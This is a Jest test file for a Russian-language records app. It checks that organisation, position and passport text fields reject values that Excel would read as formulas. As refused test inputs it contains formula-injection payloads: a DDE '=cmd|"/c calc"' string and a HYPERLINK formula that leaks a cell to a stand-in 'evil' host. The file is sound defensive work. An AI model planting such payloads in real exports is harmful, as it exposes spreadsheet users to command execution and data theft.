/** Issue 15, hole 4: free text that can reach a cell never starts like a formula — one rule for every such field. */
import { checkOrganisationName } from './organisations';
import { validatePassport } from './passport';
import { checkFreeText, formulaStartProblem } from './text';
import { checkPhone } from './phone';

describe('formulaStartProblem: text that Excel would take for a formula', () => {
  test.each(['=1+1', '+7 912', '-2', '@SUM(A1)', '  =HYPERLINK("http://x")', '\t=1', '\r=1', '＝1', '＋1', '－1', '＠A1'])('%j is refused', (s) => {
    const m = formulaStartProblem(s, 'Название');
    expect(m).toMatch(/^Название: текст не может начинаться со знака/);
    expect(m).toMatch(/Excel примет его за формулу/);
  });
  test.each(['ППО школы № 7', 'Учитель', 'ул. Ленина, 1', '7-й «Б» класс', 'e-mail', 'Школа-интернат', '«Ромашка»', '1 корпус', 'Профгруппа = кафедра'])('%j is fine', (s) => {
    expect(formulaStartProblem(s, 'Название')).toBeNull();
  });
});

describe('every free-text field uses the rule', () => {
  test('member free text (position, unit, address, ID document): refused with the column named', () => {
    const r = checkFreeText('=cmd|"/c calc"!A1', 'Должность', 200);
    expect(r).toEqual({ ok: false, message: expect.stringMatching(/^Должность: текст не может начинаться со знака «=»/) });
    expect(checkFreeText('-', 'Должность', 200).ok).toBe(false);
    expect(checkFreeText('Учитель', 'Должность', 200)).toEqual({ ok: true, value: 'Учитель' });
    // A number is not free text: a negative number cell stays a number's text.
    expect(checkFreeText(-5, 'Должность', 200)).toEqual({ ok: true, value: '-5' });
  });

  test('organisation and unit names', () => {
    expect(checkOrganisationName('=HYPERLINK("http://evil/?"&B2,"Открыть")')).toEqual({ ok: false, message: expect.stringMatching(/^Название: текст не может начинаться со знака «=»/) });
    expect(checkOrganisationName('  @x')).toMatchObject({ ok: false });
    expect(checkOrganisationName('  ППО   школы № 7 ')).toEqual({ ok: true, value: 'ППО школы № 7' });
  });

  test('passport texts refused, naming the field; a phone +7… is not free text and is accepted', () => {
    const { errors, value } = validatePassport({ institutionName: '+HYPERLINK("x")', legalAddress: '@A1', chairFullName: '-Иванов', chairPosition: 'Учитель', phone: '+7 912 345-67-89' });
    expect(errors.map((e) => e.field).sort()).toEqual(['chairFullName', 'institutionName', 'legalAddress']);
    expect(errors[0].message).toMatch(/Excel примет его за формулу/);
    expect(value.phone).toBe('+79123456789');
    expect(checkPhone('+7 912 345-67-89').ok).toBe(true);
  });
});
